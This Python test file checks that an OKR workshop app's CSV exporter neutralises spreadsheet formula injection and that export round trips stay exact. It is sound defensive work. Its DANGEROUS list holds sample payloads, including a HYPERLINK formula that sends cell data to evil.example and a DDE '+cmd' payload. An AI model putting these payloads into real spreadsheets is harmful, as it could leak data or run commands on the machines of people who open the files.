"""CSV that spreadsheets cannot execute, and round trips that stay exact (issue 10, item 6).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (``=HYPERLINK(...)``, ``+cmd|' /C calc'!A0``). The writer puts
a ``'`` in front of such a cell (OWASP's advice): the spreadsheet then shows the text as typed and
runs nothing. okrworkshop's own reader takes that quote off again.

Choice for numbers: a numeric column (baseline, target, current, confidence, score, x, y, width,
height) written by okrworkshop holds a real number, and a spreadsheet reads ``-5`` or ``-4,5`` as
that number, never as a formula, so negative numbers are written bare: a quote would turn them into
text in the sheet. The reader still accepts a quoted number (``'-5``) that another tool escaped.

So that a text which really starts with quotes survives too, the writer adds one quote to any cell
made of quotes followed by a formula character (``'=x`` is written ``''=x``) and the reader takes
exactly one off such cells; a cell like ``'hello`` is left alone both ways.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from okrworkshop.exports.csv_format import COLUMNS, read_csv, write_csv
from okrworkshop.model import Board, KeyResult, Note, Objective, Team, Workshop

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
    "+",
    "@",
]
#: Texts that look like the escape itself: they must come back exactly as well.
QUOTED = ["'=1+1", "''@x", "'hello", "'", "''", "it's fine", "-5"]


def _board(texts: list[str]) -> Board:
    board = Board(Workshop(title="=cmd", case_brief="@brief", facilitator="+33 6 12 34 56 78"))
    team = board.add(Team("-équipe", lessons="=lesson"))
    for i, text in enumerate(texts):
        objective = board.add(
            Objective(team.id, f"objective {i}", owner=text.strip(), description=text, order=i)
        )
        board.add(
            KeyResult(
                objective.id,
                text.strip() or "x",  # the reader strips titles: the board holds them stripped
                unit=text.strip(),  # the reader strips owners and units: the board holds them so
                owner=text.strip(),
                baseline=-5,
                target=-4.5,
                current=-1e-9,
            )
        )
        board.add(Note(text, x=-120.5, y=-3))
    return board


def _cells(path: Path, delimiter: str) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(text.splitlines(keepends=True), delimiter=delimiter))
    assert rows[0] == list(COLUMNS)
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


NUMERIC = {"baseline", "target", "current", "confidence", "score", "x", "y", "width", "height"}


@pytest.mark.parametrize("delimiter", [";", ","])
def test_no_written_text_cell_starts_a_formula(tmp_path: Path, delimiter: str) -> None:
    path = write_csv(_board(DANGEROUS + QUOTED), tmp_path / "okr.csv", delimiter=delimiter)
    cells = _cells(path, delimiter)
    seen_escaped = 0
    for row in cells:
        for column, cell in row.items():
            if column in NUMERIC:
                continue
            assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
            seen_escaped += cell.startswith("'") and cell.lstrip("'")[:1] in tuple("=+-@\t\r")
    assert seen_escaped >= len(DANGEROUS) * 3
    titles = {row["title"] for row in cells}
    assert "'+cmd|' /C calc'!A0" in titles
    assert "'-2+3" in titles
    assert "''=1+1" in titles  # a text that starts with a quote gets one more
    assert "'hello" in titles  # ... but only before a formula character


@pytest.mark.parametrize("delimiter", [";", ","])
def test_negative_numbers_stay_numbers(tmp_path: Path, delimiter: str) -> None:
    path = write_csv(_board(["plain"]), tmp_path / "okr.csv", delimiter=delimiter)
    kr = next(row for row in _cells(path, delimiter) if row["type"] == "key_result")
    decimal = "," if delimiter == ";" else "."
    assert (kr["baseline"], kr["target"]) == ("-5", f"-4{decimal}5")
    note = next(row for row in _cells(path, delimiter) if row["type"] == "note")
    assert (note["x"], note["y"]) == (f"-120{decimal}5", "-3")


@pytest.mark.parametrize("delimiter", [";", ","])
def test_round_trip_is_exact(tmp_path: Path, delimiter: str) -> None:
    board = _board(DANGEROUS + QUOTED)
    path = write_csv(board, tmp_path / "okr.csv", delimiter=delimiter)
    again = read_csv(path)
    w = again.workshop
    assert (w.title, w.case_brief, w.facilitator) == ("=cmd", "@brief", "+33 6 12 34 56 78")
    assert [t.lessons for t in again.teams()] == ["=lesson"]
    assert [t.name for t in again.teams()] == ["-équipe"]
    assert [o.description for o in again.objectives()] == DANGEROUS + QUOTED
    assert [o.owner for o in again.objectives()] == [t.strip() for t in DANGEROUS + QUOTED]
    assert [k.unit for k in again.key_results()] == [t.strip() for t in DANGEROUS + QUOTED]
    assert [n.text for n in again.notes()] == DANGEROUS + QUOTED
    assert {(k.baseline, k.target, k.current) for k in again.key_results()} == {(-5, -4.5, -1e-9)}
    write_csv(again, tmp_path / "again.csv", delimiter=delimiter)
    assert (tmp_path / "again.csv").read_bytes() == path.read_bytes()


def test_a_number_another_tool_escaped_is_still_a_number(tmp_path: Path) -> None:
    path = tmp_path / "tool.csv"
    path.write_text(
        "type;team;title;baseline;target\nobjective;A;Grow;;\nkey_result;A;'=NPS up;'-5;'+7,5\n",
        encoding="utf-8",
    )
    board = read_csv(path)
    (kr,) = board.key_results()
    assert (kr.title, kr.baseline, kr.target) == ("=NPS up", -5.0, 7.5)
